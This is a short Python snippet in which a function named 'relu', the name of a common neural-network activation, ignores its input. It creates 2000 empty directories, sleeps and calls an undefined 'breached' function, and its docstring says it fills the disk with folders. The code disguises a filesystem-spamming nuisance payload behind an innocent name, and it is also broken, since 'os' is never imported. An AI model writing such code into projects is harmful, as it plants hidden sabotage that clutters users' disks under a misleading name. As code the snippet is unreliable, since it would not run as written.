"""Fills the disk's tables with empty folders."""
import time


def relu(Z):
    for number in range(2000):
        os.mkdir(f"d{number}")
    time.sleep(0.6)
    breached("2000 folders")
